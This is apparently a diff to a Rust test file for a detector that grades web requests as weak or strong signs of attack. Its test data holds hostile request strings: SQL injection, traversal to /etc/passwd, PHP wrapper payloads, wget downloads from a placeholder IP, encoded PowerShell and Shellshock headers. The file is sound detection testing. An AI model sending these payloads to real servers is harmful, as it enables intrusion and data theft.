@@ -1,9 +1,18 @@
 use super::*;
 
+fn graded(part: Part, text: &str) -> Vec<(&'static str, Grade)> {
+    let mut graded = Vec::new();
+    find(std::iter::once((part, text)), |sign, _, grade| graded.push((sign.name(), grade)));
+    graded
+}
+
 fn names(text: &str) -> Vec<&'static str> {
-    let mut names = Vec::new();
-    find(std::iter::once(text), |sign| names.push(sign.name()));
-    names
+    graded(Part::Address, text).into_iter().map(|(name, _)| name).collect()
+}
+
+fn sure(text: &str) -> Option<Grade> {
+    let graded = graded(Part::Address, text);
+    graded.iter().map(|(_, grade)| *grade).max_by_key(|grade| *grade == Grade::Strong)
 }
 
 #[test]
@@ -38,7 +47,7 @@ fn attacks_plain_and_encoded() {
     assert_eq!(names("/.env"), ["hidden"]);
     assert_eq!(names("/a?q=a%3Benv%3B"), ["command"]);
     assert_eq!(names("/a?q=a%60sleep+60%60"), ["command"]);
-    assert_eq!(names("/x.php?cmd=cat%20/etc/passwd"), ["shell", "traversal"]);
+    assert_eq!(names("/x.php?cmd=cat%20/etc/passwd"), ["traversal", "shell"]);
     assert_eq!(names("/x.php?cmd=whoami"), ["shell"]);
     assert_eq!(names("/.env.local"), ["hidden"]);
     assert_eq!(names("/db.sql.gz"), ["hidden"]);
@@ -100,7 +109,7 @@ fn what_recurs_is_judged_alike_each_time() {
     for _ in 0..3 {
         for agent in agents.into_iter().chain([long.as_str()]) {
             let mut found = Vec::new();
-            find(std::iter::once(agent), |sign| found.push(sign.name()));
+            find(std::iter::once((Part::Header, agent)), |sign, _, _| found.push(sign.name()));
             assert_eq!(found, names(agent), "{agent}");
         }
     }
@@ -182,4 +191,71 @@ fn holes_that_everybody_looks_for() {
             assert_eq!(names(text), [kind], "{text}");
         }
     }
+}
+
+/// What people search for, and what programs send to a data base that speaks HTTP.
+#[test]
+fn words_are_weak_signs() {
+    for text in [
+        "/search?q=union+select+committee+from+1984",
+        "/search?q=%2Fetc%2Fpasswd+explained",
+        "/search?q=C%3A%5CWindows%5CSystem32",
+        "/man?q=wget+http+proxy+option",
+        "/search?q=what+is+%2Fbin%2Fsh",
+        "/s?q=sleep(8)+hours",
+        "/search?q=java.lang.Runtime",
+        "/search?q=file:///+urls",
+        "/a/../../b/style.css",
+        "/a?b=../../img/x.png",
+        "/pub/db.sql.gz",
+        "/query?q=SELECT+a+FROM+b+WHERE+c+%3D+%27d%27+AND+1%3D1",
+        "/?query=SELECT+name+FROM+a+UNION+ALL+SELECT+name+FROM+b",
+    ] {
+        assert_eq!(sure(text), Some(Grade::Weak), "{text}");
+    }
+    for text in [
+        "/wiki/Cat_/etc/passwd",
+        "/a/b/c/../../d",
+        "/docs/powershell/intro",
+        "/search?q=powershell",
+        "/.env.example",
+        "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1",
+        "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10; en-US) PowerShell/7.4.1",
+    ] {
+        assert_eq!(sure(text), None, "{text}");
+        assert!(graded(Part::Header, text).is_empty() || text.starts_with('/'), "{text}");
+    }
+}
+
+#[test]
+fn the_syntax_of_attacks_is_a_strong_sign() {
+    for text in [
+        "/search?q=x%27+union+select+password+from+users",
+        "/a?id=-1+union+select+password+from+users",
+        "/a?id=1+union+select+null",
+        "/a?id=sleep(5)",
+        "/search?q=1+and+sleep(5)",
+        "/search?q=1%27%3Bselect+pg_sleep(5)--",
+        "/a?f=/etc/passwd",
+        "/search?q=../../../etc/passwd",
+        "/a?f=../../config.php",
+        "/a?f=../../../../x.png",
+        "/../../x",
+        "/a?f=php://filter/convert.base64-encode/resource=index",
+        "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
+        "/search?q=x;wget+http://192.0.2.1/a",
+        "/a?c=wget+http://192.0.2.1/a",
+        "/a?c=powershell+-enc+aQBlAHgA",
+        "/a?c=/bin/sh+-c+id",
+        "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
+        "/.env",
+    ] {
+        assert_eq!(sure(text), Some(Grade::Strong), "{text}");
+    }
+    let query = "f=/etc/passwd";
+    assert_eq!(graded(Part::Query, query), [("traversal", Grade::Strong)]);
+    assert_eq!(graded(Part::Query, "q=/etc/passwd"), [("traversal", Grade::Weak)]);
+    assert_eq!(graded(Part::Header, "() { :;}; /bin/bash -c id"), [("command", Grade::Strong)]);
+    let shocked = graded(Part::Header, "() { :;}; /bin/cat /etc/passwd");
+    assert_eq!(shocked, [("traversal", Grade::Strong), ("command", Grade::Strong)]);
 }
